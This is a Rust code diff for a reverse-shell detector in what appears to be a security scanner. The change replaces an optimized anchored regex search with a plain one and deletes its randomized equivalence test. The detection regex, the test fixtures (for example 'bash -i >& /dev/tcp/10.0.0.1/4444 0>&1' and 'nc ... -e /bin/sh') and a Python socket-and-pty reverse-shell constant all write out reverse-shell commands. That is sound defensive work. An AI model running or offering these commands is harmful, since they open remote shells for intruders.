@@ -36,33 +36,9 @@ static WIRE: LazyLock<Regex> = LazyLock::new(|| {
 /// `-e` is in every `non-empty` and `--exclude`), `mkfifo`. Its gate ([`TextFile::may_contain_ci`]).
 static ONE_LINER_WORDS: LazyLock<AhoCorasick> =
     LazyLock::new(|| super::pysrc::gate(&["/dev/", "-e ", "-e\t", "-e\n", "-e\r", "-e\x0b", "-e\x0c", "mkfifo"]));
-const ONE_LINER_PATTERN: &str = r"(?i)(?:(?-u:\b)(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|(?-u:\b)nc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|(?-u:\b)nc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)";
-static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| Regex::new(ONE_LINER_PATTERN).expect("one-liner"));
-/// [`ONE_LINER`] for anchored searches ([`pysrc::find_at_starts`]).
-static ONE_LINER_AT: LazyLock<regex_automata::meta::Regex> =
-    LazyLock::new(|| regex_automata::meta::Regex::new(ONE_LINER_PATTERN).expect("one-liner"));
-/// What every [`ONE_LINER`] match starts with (ASCII case-insensitively), the first three
-/// only after a byte that is not a word byte (the regex's `\b`).
-const ONE_LINER_STARTS: [&str; 6] = ["bash", "sh", "nc", "/dev/tcp/", "mkfifo", "0<&"];
-
-/// `ONE_LINER.find_iter(text)`'s ranges: in ASCII text only the places where the lowercased
-/// copy holds one of [`ONE_LINER_STARTS`] are tried ([`pysrc::find_at_starts`]; the
-/// case-insensitive regex has no literal the regex crate skips ahead with); other text is
-/// searched whole.
-fn one_liner_ranges(file: &TextFile<'_>) -> Vec<(usize, usize)> {
-    let Some(lower) = file.ascii_lowercase() else {
-        return ONE_LINER.find_iter(file.text).map(|m| (m.start(), m.end())).collect();
-    };
-    let b = lower.as_bytes();
-    let word = |i: usize| b[i].is_ascii_alphanumeric() || b[i] == b'_';
-    let mut starts = pysrc::occurrences(b, &ONE_LINER_STARTS[3..]);
-    for w in &ONE_LINER_STARTS[..3] {
-        starts.extend(memchr::memmem::find_iter(b, w).filter(|&i| i == 0 || !word(i - 1)));
-    }
-    starts.sort_unstable();
-    starts.dedup();
-    pysrc::find_at_starts(&ONE_LINER_AT, file.text, starts)
-}
+static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:(?-u:\b)(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|(?-u:\b)nc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|(?-u:\b)nc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)").expect("one-liner")
+});
 
 pub(crate) struct ReverseShell;
 
@@ -88,19 +64,16 @@ impl Detector for ReverseShell {
         let sev = Some(context::cap(file, Severity::Critical));
         let src = file.source();
         let mut n = 0;
-        let one_liners = file.may_contain_ci(&ONE_LINER_WORDS).then(|| one_liner_ranges(file));
-        for (start, end) in one_liners.into_iter().flatten() {
+        let one_liners = file.may_contain_ci(&ONE_LINER_WORDS).then(|| ONE_LINER.find_iter(file.text));
+        for m in one_liners.into_iter().flatten() {
             if n >= MAX_HITS_PER_FILE {
                 return;
             }
-            if src.python && src.kind_at(start) != Kind::Str {
+            if src.python && src.kind_at(m.start()) != Kind::Str {
                 continue;
             }
             n += 1;
-            hits.push(
-                &META,
-                Hit { severity: sev, evidence: pysrc::evidence(file, start, file.text[start..end].trim()) },
-            );
+            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), m.as_str().trim()) });
         }
         if !src.python || !CONNECT.find_iter(file.text).any(|m| src.is_code(m.start())) {
             return;
@@ -127,72 +100,6 @@ mod tests {
     use Severity::*;
 
     const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";
-
-    #[test]
-    fn one_liner_search_at_starts_is_the_whole_search() {
-        let whole = |t: &str| ONE_LINER.find_iter(t).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
-        let check = |name: &str, text: &str| {
-            let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, text);
-            assert_eq!(one_liner_ranges(&file), whole(text), "{name}");
-            whole(text).len()
-        };
-        let cases = [
-            ("empty", ""),
-            ("bash to /dev/tcp", "'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"),
-            ("sh and upper case", "SH -I >& /DEV/UDP/h/1; /dev/tcp/h.example/80"),
-            ("nc", "nc 10.0.0.1 4444 -e /bin/sh; ncat -e cmd; NC.EXE h 1 -e bash"),
-            ("mkfifo", "rm /tmp/f;mkfifo /tmp/f; cat /tmp/f"),
-            ("exec fd", "0<&196;exec 196<>/dev/tcp/h/80"),
-            ("inside words", "fish -i >& /dev/tcp/x/1 xnc -e sh sync -e sh _sh -i >& /dev/tcp/"),
-            ("non-ASCII", "é bash -i >& /dev/tcp/h/1"),
-        ];
-        for (name, text) in cases {
-            check(name, text);
-        }
-        let pieces = [
-            "bash",
-            "sh",
-            "nc",
-            "ncat",
-            " ",
-            "-i",
-            "-e",
-            ">&",
-            "/dev/tcp/",
-            "/dev/udp/",
-            "h",
-            "1",
-            "/",
-            "mkfifo",
-            "/tmp/f",
-            ";",
-            "cat",
-            "0<&",
-            "exec",
-            "<>",
-            "\n",
-            "x",
-            "é",
-            "/bin/",
-            "bash -i >& /dev/tcp/h/1",
-            "NC -E SH",
-            "mkfifo /tmp/f;cat",
-        ];
-        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
-        let mut found = 0;
-        for case in 0..4000u64 {
-            let mut text = String::new();
-            for _ in 0..(seed % 30) {
-                seed ^= seed << 13;
-                seed ^= seed >> 7;
-                seed ^= seed << 17;
-                text.push_str(pieces[(seed % pieces.len() as u64) as usize]);
-            }
-            seed = seed.wrapping_add(case);
-            found += check(&text, &text);
-        }
-        assert!(found > 300, "the random texts hold one-liners: {found}");
-    }
 
     #[test]
     fn one_liner_gate_never_hides_a_match() {
